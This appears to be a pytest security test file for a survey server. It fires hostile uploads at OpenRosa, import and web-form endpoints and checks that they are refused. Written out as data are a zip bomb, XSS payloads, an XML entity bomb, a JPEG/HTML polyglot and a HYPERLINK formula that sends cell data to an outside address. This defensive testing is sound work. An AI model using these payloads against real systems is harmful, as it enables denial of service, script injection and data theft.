"""The new doors, hostile: OpenRosa multipart submissions with files, file imports of KoBo/ODK
exports, XLSForm uploads from the web page, and the CSV export of what came in through them.

Each hostile request goes to a real ``impactkit serve`` on SQLite and on PostgreSQL; its answer,
time and the server's peak memory growth are recorded (printed with ``-s``), the answer must be a
4xx naming what is wrong, within a generous time, with the peak resident memory grown less than
300 MiB, and ``/health`` must answer afterwards (as in test_hostile.py).
"""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.odk import TINY_JPEG, household_form_xlsx, household_submission_xml
from tests.reliability.conftest import Deployment
from tests.reliability.doors import Door

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

GENEROUS = 120.0
FIGURES: list[str] = []


def refused(answer: httpx.Response, *words: str) -> None:
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text[:400])
    assert any(word.lower() in answer.text.lower() for word in words), answer.text[:600]


def zip_bomb(member: str, inflated: int) -> bytes:
    """A zip whose one member inflates to ``inflated`` bytes of zeros (about 1/1000 of it packed)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(member, "w", force_zip64=True) as out,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(inflated // len(chunk)):
            out.write(chunk)
    return buffer.getvalue()


@pytest.fixture
def door(deployment: Deployment) -> Any:
    server = deployment.start_server()
    yield Door(server, deployment.engine.url.get_backend_name(), FIGURES)
    print("\nhostile doors (answer, time, server peak memory growth):\n" + "\n".join(FIGURES))
    FIGURES.clear()


def test_every_new_door_refuses_hostile_input_within_bounds(deployment: Deployment, door: Door) -> None:
    world = deployment.world
    base = door.server.base_url
    editor = httpx.Client(
        base_url=base, timeout=GENEROUS, headers={"Authorization": f"Bearer {world.tokens['editor_a']}"}
    )
    device = httpx.Client(base_url=base, timeout=GENEROUS)
    published = editor.post(
        f"/api/v1/organisations/{world.org_a}/forms",
        files={"file": ("household_visit.xlsx", household_form_xlsx())},
    )
    assert published.status_code == 201, published.text
    version_id = published.json()["id"]
    access = editor.post(
        f"/api/v1/projects/{world.project_a}/collectors", json={"label": "Tablet", "wave": "baseline"}
    )
    assert access.status_code == 201, access.text
    submission = "/collect/" + access.json()["url"].rsplit("/collect/", 1)[1] + "/submission"

    def odk(what: str, xml: bytes, files: list[tuple[str, bytes, str]]) -> httpx.Response:
        parts: list[tuple[str, Any]] = [("xml_submission_file", ("submission.xml", xml, "text/xml"))]
        parts += [(name, (name, data, kind)) for name, data, kind in files]
        return door.send(what, device, "POST", submission, files=parts, headers={"X-OpenRosa-Version": "1.0"})

    # --- OpenRosa: files bounded in size, count and type (sniffed, not believed from the name)
    big = TINY_JPEG[:-2] + bytes(21 * 1024 * 1024) + b"\xff\xd9"
    refused(
        odk(
            "a 21 MiB photo (limit 20 MiB)",
            household_submission_xml(str(uuid.uuid4())),
            [("casa.jpg", big, "image/jpeg")],
        ),
        "bytes",
        "413",
        "large",
    )
    many = [(f"f{n}.jpg", TINY_JPEG, "image/jpeg") for n in range(51)]
    refused(
        odk("51 files with one submission (limit 50)", household_submission_xml(str(uuid.uuid4())), many),
        "50",
        "not named",
    )
    html = b"<html><script>alert(document.cookie)</script></html>"
    refused(
        odk(
            "HTML named casa.jpg, sent as image/jpeg",
            household_submission_xml(str(uuid.uuid4())),
            [("casa.jpg", html, "image/jpeg")],
        ),
        "photo",
        "casa.jpg",
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    refused(
        odk(
            "SVG with a script named casa.jpg",
            household_submission_xml(str(uuid.uuid4())),
            [("casa.jpg", svg, "image/svg+xml")],
        ),
        "photo",
        "casa.jpg",
    )
    nested = b"<data>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</data>"
    refused(odk("submission XML nested 100,000 deep", nested, []), "xml", "deep", "nest", "invalid", "read")
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><data id="household_visit">&c;</data>'
    )
    refused(odk("entity bomb in the submission XML", laughs, []), "DTD", "entit")
    # a polyglot: JPEG magic then HTML. It is an image by its bytes; it must never be served so
    # that a browser could run it: only to members, as a download, with nosniff
    instance_id = str(uuid.uuid4())
    polyglot = TINY_JPEG + b"<html><script>alert(1)</script></html>"
    stored = odk(
        "a JPEG followed by HTML (kept as an image)",
        household_submission_xml(instance_id),
        [("casa.jpg", polyglot, "image/jpeg")],
    )
    assert stored.status_code == 201, stored.text
    served = editor.get(f"/api/v1/responses/{instance_id}/attachments/casa.jpg")
    assert served.status_code == 200 and served.headers["content-type"].startswith("image/jpeg")
    assert served.headers["content-disposition"].startswith("attachment")
    assert served.headers["x-content-type-options"] == "nosniff"
    stranger = httpx.Client(
        base_url=base, timeout=30, headers={"Authorization": f"Bearer {world.tokens['owner_b']}"}
    )
    assert stranger.get(f"/api/v1/responses/{instance_id}/attachments/casa.jpg").status_code == 404
    assert httpx.get(f"{base}/api/v1/responses/{instance_id}/attachments/casa.jpg").status_code == 401
    web_root = Path(__file__).resolve().parents[2] / "src" / "impactkit" / "api" / "static"
    assert not any(path.name.startswith("casa") for path in web_root.rglob("*")), (
        "files stay out of the web root"
    )

    # --- imports: bytes, zip bombs, rows and columns bounded
    def imported(what: str, name: str, data: bytes) -> httpx.Response:
        return door.send(
            what,
            editor,
            "POST",
            "/api/v1/responses/import",
            files=[
                ("form_version_id", (None, str(version_id))),
                ("project_id", (None, str(world.project_a))),
                ("files", (name, data, "application/octet-stream")),
            ],
        )

    refused(
        imported("ODK Central zip inflating to 1 GiB", "export.zip", zip_bomb("household.csv", 1024**3)),
        "bytes",
        "zip",
        "large",
        "limit",
    )
    wide = ",".join(f"c{n}" for n in range(100_000)).encode() + b"\n" + b"1," * 99_999 + b"1\n"
    refused(imported("CSV with 100,000 columns", "wide.csv", wide), "column")
    # 20,000 rows are read and answered row by row within the bound; over HTTP a file holds at
    # most 100,000 rows (200,000 rows, 7 MiB, grew the server's peak by 704 MiB before the bound)
    rows = b"KEY,consent\n" + b"".join(f"uuid:{uuid.uuid4()},yes\n".encode() for _ in range(20_000))
    many_rows = imported("CSV with 20,000 rows of a form's first column", "rows.csv", rows)
    assert many_rows.status_code < 500, many_rows.text[:300]
    too_many = b"KEY,consent\n" + b"".join(f"uuid:{uuid.uuid4()},yes\n".encode() for _ in range(100_001))
    refused(imported("CSV with 100,001 rows", "rows.csv", too_many), "100,000 rows")
    refused(
        imported("a PNG named export.csv", "export.csv", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        "csv",
        "read",
        "separator",
        "column",
        "text",
    )

    # --- CSV injection: what came in as a formula leaves as text
    formula = '=HYPERLINK("http://203.0.113.9/x?"&A1,"click")'
    answers = {
        "consent": "yes",
        "respondent_code": "AB-1",
        "gender": "female",
        "age": 30,
        "territory_type": "urban",
        "vulnerable_conditions": ["unemployment"],
        "employment_status": "employed",
        "wellbeing": "3",
        "autonomy": "3",
        "social_connections": "3",
        "satisfaction": "3",
        "would_recommend": "yes",
        "comments": formula,
    }
    body = {
        "instance_id": str(uuid.uuid4()),
        "form_id": "beneficiary_outcomes",
        "form_version": "2026.1",
        "project_id": world.project_a,
        "period_id": world.period_a,
        "answers": answers,
    }
    assert editor.post("/api/v1/responses", json=body).status_code == 201
    exported = door.send(
        "CSV export of an answer written as a formula",
        editor,
        "GET",
        "/api/v1/responses/export.csv",
        params={"form_id": "beneficiary_outcomes"},
    )
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert formula not in cells and any(cell.endswith(formula) and cell[0] == "'" for cell in cells), (
        "neutralised"
    )

    # --- XLSForm upload from the web page: a zip bomb through the browser's door
    page = httpx.Client(base_url=base, timeout=GENEROUS)
    signin = page.get("/signin")
    token = signin.text.split('name="_csrf_token" value="', 1)[1].split('"', 1)[0]
    assert (
        page.post(
            "/signin",
            data={
                "email": "editor_a@example.org",
                "password": "correct horse battery",
                "_csrf_token": token,
                "next": "/app",
            },
        ).status_code
        == 303
    )
    forms = page.get(f"/app/organisations/{world.org_a}/forms")
    csrf = forms.text.split('name="_csrf_token" value="', 1)[1].split('"', 1)[0]
    bomb = door.send(
        "XLSForm page upload: xlsx inflating to 1 GiB",
        page,
        "POST",
        f"/app/organisations/{world.org_a}/forms",
        data={"_csrf_token": csrf},
        files={
            "file": ("form.xlsx", zip_bomb("xl/worksheets/sheet1.xml", 1024**3), "application/octet-stream")
        },
        follow_redirects=False,
    )
    assert 400 <= bomb.status_code < 500, bomb.status_code
    for client in (editor, device, stranger, page):
        client.close()


def test_the_survey_page_refuses_hostile_files_within_bounds(deployment: Deployment, door: Door) -> None:
    """The respondent page's file inputs: the same bounds and sniffing as OpenRosa, answered as a
    page (422 with the reason next to the question, 413 for a post too large), nothing kept."""
    world = deployment.world
    base = door.server.base_url
    editor = httpx.Client(
        base_url=base, timeout=GENEROUS, headers={"Authorization": f"Bearer {world.tokens['editor_a']}"}
    )
    published = editor.post(
        f"/api/v1/organisations/{world.org_a}/forms",
        files={"file": ("household_visit.xlsx", household_form_xlsx())},
    )
    assert published.status_code == 201, published.text
    link = editor.post(
        f"/api/v1/projects/{world.project_a}/links", json={"form_version_id": published.json()["id"]}
    )
    assert link.status_code == 201, link.text
    address = f"/s/{link.json()['token']}"
    respondent = httpx.Client(base_url=base, timeout=GENEROUS)
    page = respondent.get(f"{address}?lang=en")
    assert page.status_code == 200 and 'type="file"' in page.text
    csrf = page.text.split('name="_csrf_token" value="', 1)[1].split('"', 1)[0]

    def answers(instance_id: str) -> dict[str, Any]:
        return {
            "_csrf_token": csrf,
            "_ik_instance": instance_id,
            "_ik_lang": "en",
            "_ik_shown": "respondent_code consent members member/0/name member/0/age "
            "member/0/attends_school services photo",
            "_ik_repeat": "member",
            "_ik_entry": "member/0",
            "respondent_code": "AB-1",
            "consent": "yes",
            "members": "1",
            "member/0/name": "Ada",
            "member/0/age": "40",
        }

    def sent(what: str, files: Any, **kwargs: Any) -> httpx.Response:
        return door.send(
            what,
            respondent,
            "POST",
            address,
            data=answers(str(uuid.uuid4())),
            files=files,
            follow_redirects=False,
            **kwargs,
        )

    big = TINY_JPEG[:-2] + bytes(21 * 1024 * 1024) + b"\xff\xd9"
    refused(
        sent("page: a 21 MiB photo (limit 20 MiB)", [("photo", ("casa.jpg", big, "image/jpeg"))]), "too large"
    )
    many = [("photo", (f"f{n}.jpg", TINY_JPEG, "image/jpeg")) for n in range(51)]
    refused(sent("page: 51 files with one response (limit 50)", many), "at most 50")
    html = b"<html><script>alert(document.cookie)</script></html>"
    refused(
        sent("page: HTML named casa.jpg, sent as image/jpeg", [("photo", ("casa.jpg", html, "image/jpeg"))]),
        "casa.jpg",
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    refused(
        sent("page: SVG with a script as a photo", [("photo", ("casa.svg", svg, "image/svg+xml"))]),
        "casa.svg",
    )
    # httpx writes a NUL of a file name as %00: the raw bytes are sent by hand
    raw = b"".join(
        b'--b\r\nContent-Disposition: form-data; name="'
        + name.encode()
        + b'"\r\n\r\n'
        + value.encode()
        + b"\r\n"
        for name, value in answers(str(uuid.uuid4())).items()
    )
    raw += (
        b'--b\r\nContent-Disposition: form-data; name="photo"; filename="ca\x00sa\xed\xa0\x80.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + html + b"\r\n--b--\r\n"
    )
    nul = door.send(
        "page: a NUL and a lone surrogate in the file name",
        respondent,
        "POST",
        address,
        content=raw,
        headers={"Content-Type": "multipart/form-data; boundary=b"},
    )
    assert 400 <= nul.status_code < 500, (nul.status_code, nul.text[:600])
    parts = [("photo", (f"p{n}.jpg", b"", "image/jpeg")) for n in range(1500)]
    answer = sent("page: 1,500 empty file parts", parts)
    assert 400 <= answer.status_code < 500, answer.status_code

    def chunks() -> Any:
        for _ in range(60):
            yield bytes(1024 * 1024)

    streamed = door.send(
        "page: 60 MiB sent in chunks, no Content-Length (limit 50 MiB)",
        respondent,
        "POST",
        address,
        content=chunks(),
        headers={"Content-Type": "multipart/form-data; boundary=xyz"},
    )
    assert streamed.status_code == 413, streamed.status_code
    declared = door.send(
        "page: a post declaring 60 MiB (limit 50 MiB)",
        respondent,
        "POST",
        address,
        content=bytes(60 * 1024 * 1024),
        headers={"Content-Type": "multipart/form-data; boundary=xyz"},
    )
    assert declared.status_code == 413, declared.status_code
    folder = deployment.data_dir / "attachments"
    assert not folder.exists() or not any(path.is_file() for path in folder.rglob("*")), "nothing kept"

    # a polyglot (JPEG magic, then HTML) is an image by its bytes: kept, and only ever served to
    # members, as a download, with nosniff
    instance_id = str(uuid.uuid4())
    polyglot = TINY_JPEG + b"<html><script>alert(1)</script></html>"
    stored = door.send(
        "page: a JPEG followed by HTML (kept as an image)",
        respondent,
        "POST",
        address,
        data=answers(instance_id),
        files=[("photo", ("casa.jpg", polyglot, "image/jpeg"))],
        follow_redirects=False,
    )
    assert stored.status_code == 303 and "status=stored" in stored.headers["location"], stored.text[:600]
    [listed] = editor.get(f"/api/v1/responses/{instance_id}/attachments/").json()
    served = editor.get(f"/api/v1/responses/{instance_id}/attachments/{listed['filename']}")
    assert served.status_code == 200 and served.headers["content-type"].startswith("image/jpeg")
    assert served.headers["content-disposition"].startswith("attachment")
    assert served.headers["x-content-type-options"] == "nosniff"
    stranger = httpx.Client(
        base_url=base, timeout=30, headers={"Authorization": f"Bearer {world.tokens['owner_b']}"}
    )
    assert (
        stranger.get(f"/api/v1/responses/{instance_id}/attachments/{listed['filename']}").status_code == 404
    )
    for client in (editor, respondent, stranger):
        client.close()
